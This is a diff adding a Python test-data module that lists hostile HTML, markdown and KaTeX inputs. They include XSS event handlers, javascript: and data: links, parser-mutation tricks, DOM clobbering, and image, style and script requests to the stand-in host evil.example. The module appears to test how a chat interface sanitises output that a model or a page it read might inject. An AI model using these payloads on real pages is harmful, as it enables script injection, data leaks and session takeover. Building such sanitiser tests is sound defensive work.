@@ -1,0 +1,173 @@
+"""What a model, a user or a page that a model has read might write to take over the reader's page.
+
+Each would call `ran()`, send a request to `EVIL`, or put an element of a name into the page, if it could.
+"""
+
+EVIL = "evil.example"
+_CALL = f"https://{EVIL}/"
+
+ATTRIBUTES = [
+    "<img src=x onerror=ran()>",
+    '<img src="x" onerror="ran()" alt="`<b>`">',
+    "<b onclick=ran() onmouseover='ran()' style='position:fixed;inset:0'>b</b>",
+    "<details open ontoggle=ran()><summary>s</summary>t</details>",
+    "<a href='https://ok.example' onfocus=ran() autofocus tabindex=0>a</a>",
+    "<p/onclick=ran()>p</p>",
+    "<p\x0conclick=ran()>p</p>",
+    "<video><source onerror=ran()></video>",
+    "<audio src onloadstart=ran()>",
+    "<body onload=ran()>",
+    "<marquee onstart=ran()>m</marquee>",
+    "<div onpointerrawupdate=ran() onbeforetoggle=ran() popover>d</div>",
+    "<b oncontentvisibilityautostatechange=ran() style=content-visibility:auto>b</b>",
+    "<img/src=x/onerror=ran()>",
+    '"><img src=x onerror=ran()>',
+    "<code><img/src=x/onerror=ran()></code> <kbd><img src=x onerror=ran()></kbd>",
+]
+
+SCRIPTS = [
+    "<script>ran()</script>",
+    "<script>\n\nran()\n\n</script>",
+    "<ScRiPt>ran()</sCrIpT>",
+    f"<script src={_CALL}x.js></script>",
+    "<scr<script>ipt>ran()</scr</script>ipt>",
+    "<script/x>ran()</script>",
+    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
+    "<!--><img src=x onerror=ran()>-->",
+    "<!-- --!><img src=x onerror=ran()> -->",
+    "<![CDATA[<img src=x onerror=ran()>]]>",
+    "<?xml ><img src=x onerror=ran()> ?>",
+    "<template><script>ran()</script></template>",
+    "<template shadowrootmode=open><img src=x onerror=ran()></template>",
+    f"<iframe srcdoc='<script>parent.ran()</script>' src={_CALL}></iframe>",
+    f"<object data={_CALL}x></object><embed src={_CALL}x><applet code=x>",
+    f"<base href={_CALL}><meta http-equiv=refresh content='0;url={_CALL}'>",
+    f"<link rel=stylesheet href={_CALL}x.css><link rel=prefetch href={_CALL}x>",
+    f"<link rel=dns-prefetch href={_CALL}><link rel=preconnect href={_CALL}>",
+]
+
+ADDRESSES = [
+    "[a](javascript:ran())",
+    "[a](JaVaScRiPt:ran())",
+    "[a](javascript&#58;ran())",
+    "[a](javascript&colon;ran())",
+    "[a](&#x6A;avascript:ran())",
+    "[a](java&#10;script:ran())",
+    "[a](<java\tscript:ran()>)",
+    "[a](\x01javascript:ran())",
+    "[a](&#1;javascript:ran())",
+    "[a]( javascript:ran())",
+    "[a](\\javascript:ran())",
+    "[a](javascript\\:ran())",
+    "[a](javascript://ok.example/%0aran())",
+    "[a](vbscript:ran())",
+    "[a](data:text/html,<script>ran()</script>)",
+    "[a](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
+    "[a](blob:https://ok.example/1)",
+    "[a](file:///etc/passwd)",
+    "[a](view-source:https://ok.example)",
+    "[a](/accounts/logout/)",
+    "[a](//evil.example/x)",
+    "[a](\\\\evil.example/x)",
+    "[a](https:evil.example)",
+    "[a](?x=1) [b](#main) [c](../x)",
+    "<javascript:ran()>",
+    "<data:text/html,x>",
+    "[a]: javascript:ran()\n\n[a] [b][a] ![a]",
+    "[![x](javascript:ran())](javascript:ran())",
+    "[![x](https://evil.example/x.png)](https://ok.example/)",
+    '[a](https://ok.example/ "\\" onclick=ran() x=\\"")',
+    '[a](https://ok.example/"onclick="ran())',
+    "[a](https://ok.example/<img src=x onerror=ran()>)",
+    "[<img src=x onerror=ran()>](https://ok.example)",
+    '[a](https://ok.example"><script>ran()</script>)',
+    "https://ok.example/<script>ran()</script>",
+    'www.ok.example/"onmouseover="ran()',
+    'a@b.example"onclick=ran()',
+    "<a href=javascript:ran()>a</a> <a href=' &#14; javascript:ran()'>b</a> <a xlink:href=javascript:ran()>c</a>",
+    "<a href='https://ok.example' target=_self rel=opener ping=https://evil.example/ download>a</a>",
+    "<form action=javascript:ran()><button formaction=javascript:ran()>b</button><input autofocus></form>",
+    "<area href=javascript:ran()><map name=m></map>",
+]
+
+CALLS_HOME = [
+    f"![x]({_CALL}1.png)",
+    f"![x][i]\n\n[i]: {_CALL}2.png",
+    f"<img src={_CALL}3.png srcset='{_CALL}4.png 2x'>",
+    f"<picture><source srcset={_CALL}5.png><img></picture>",
+    f"<video poster={_CALL}6.png src={_CALL}7.mp4></video><audio src={_CALL}8.mp3></audio><track src={_CALL}9>",
+    f"<table background={_CALL}10.png><tr><td background={_CALL}11.png>x</td></tr></table>",
+    f"<p style='background:url({_CALL}12.png)'>p</p>",
+    f"<style>@import '{_CALL}13.css'; * {{ background: url({_CALL}14.png) }}</style>",
+    f"<style>\n\n@font-face {{ font-family: x; src: url({_CALL}15.woff) }}\n\n</style>",
+    f"<input type=image src={_CALL}16.png>",
+    f"<body background={_CALL}17.png>",
+    f"<svg><image href={_CALL}18.png /><use href={_CALL}19.svg#x /></svg>",
+    f"<blockquote cite={_CALL}20>q</blockquote>",
+    f"$\\includegraphics{{{_CALL}21.png}}$ $\\href{{javascript:ran()}}{{x}}$ $\\url{{{_CALL}22}}$",
+    f"$$\\htmlStyle{{background:url({_CALL}23)}}{{x}} \\htmlId{{main}}{{y}} \\htmlData{{x=y}}{{z}}$$",
+    "$\\htmlClass{a}{b}$",
+]
+
+FOREIGN = [
+    "<svg onload=ran()><circle r=9 /></svg>",
+    "<svg><script>ran()</script></svg>",
+    "<svg><a xlink:href=javascript:ran()><text y=9>t</text></a></svg>",
+    "<svg><animate attributeName=href values=javascript:ran() /><set attributeName=onclick to=ran() /></svg>",
+    "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
+    "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>",
+    "<math href=javascript:ran()>m</math>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>",
+    "<x-element onclick=ran() is=y>x</x-element>",
+]
+
+MUTATIONS = [
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
+    '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
+    '<noembed><p title="</noembed><img src=x onerror=ran()>">',
+    '<textarea><p title="</textarea><img src=x onerror=ran()>">',
+    '<title><p title="</title><img src=x onerror=ran()>">',
+    "<select><style></select><img src=x onerror=ran()></style>",
+    '<table><a href="https://ok.example"><table><caption><img src=x onerror=ran()>',
+    "<p><svg><desc><b><![CDATA[</b><img src=x onerror=ran()>]]>",
+    '<xmp><p title="</xmp><img src=x onerror=ran()>">',
+    "<plaintext><img src=x onerror=ran()>",
+    "<b>" * 300 + "<img src=x onerror=ran()>",
+    "<svg><style>&lt;img src=x onerror=ran()&gt;</style></svg>",
+    '<a href="https://ok.example" title="&lt;/a&gt;&lt;img src=x onerror=ran()&gt;">a</a>',
+    "\u2028<img src=x\u2028onerror=ran()>",
+    "<im\0g src=x onerror=ran()> <\0script>ran()</script>",
+]
+
+CLOBBERING = [
+    "<form id=main><input name=parentNode></form>",
+    "<img name=getElementById><img name=body><img name=cookie>",
+    "<a id=page></a><a id=page name=dataset></a>",
+    "<b id=thread class='message dock' name=composer data-status=running data-language=x>b</b>",
+    "# composer\n\n## thread {#thread}\n\n<h1 id=composer>x</h1>",
+    "<details name=x open><summary id=status>s</summary></details>",
+    "<output id=notice name=forms></output><object name=defaultView></object>",
+    "<p class='code__copy message__retry' hidden dir=rtl lang=x contenteditable tabindex=1 accesskey=x>p</p>",
+    "<code data-maths=display class='x language-y'>\\htmlId{a}{b}</code><i data-task=done>t</i><a data-image>i</a>",
+]
+
+IN_MARKDOWN = [
+    "```<img src=x onerror=ran()>\n<img src=x onerror=ran()>\n```",
+    '```"onclick="ran()\nx\n```',
+    "```html\n</code></pre><script>ran()</script>\n```",
+    "`</code><script>ran()</script>`",
+    "| <img src=x onerror=ran()> | b |\n|---|---|\n| <script>ran()</script> | `<img src=x onerror=ran()>` |",
+    "- [ ] <img src=x onerror=ran()>\n- [x] <script>ran()</script>",
+    "> <script>ran()</script>\n\n1. <iframe src=javascript:ran()>",
+    "# <img src=x onerror=ran()>",
+    "[x]: https://ok.example '<img src=x onerror=ran()>'\n\n[x]",
+    "**<script>**ran()**</script>**",
+    "\\<script>ran()</script> &lt;script&gt;ran()&lt;/script&gt; &#60;img src=x onerror=ran()&#62;",
+    "$<img src=x onerror=ran()>$ \\(</span><script>ran()</script>\\) $$\\text{<img src=x onerror=ran()>}$$",
+    "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ $\\raisebox{9999em}{x}$",
+    "<div>\n\n<script>\n\nran()\n\n</script>\n\n</div>",
+    "<details>\n<summary onclick=ran()>s</summary>\n\n<img src=x onerror=ran()>\n\n</details>",
+]
+
+HOSTILE = [*ATTRIBUTES, *SCRIPTS, *ADDRESSES, *CALLS_HOME, *FOREIGN, *MUTATIONS, *CLOBBERING, *IN_MARKDOWN]
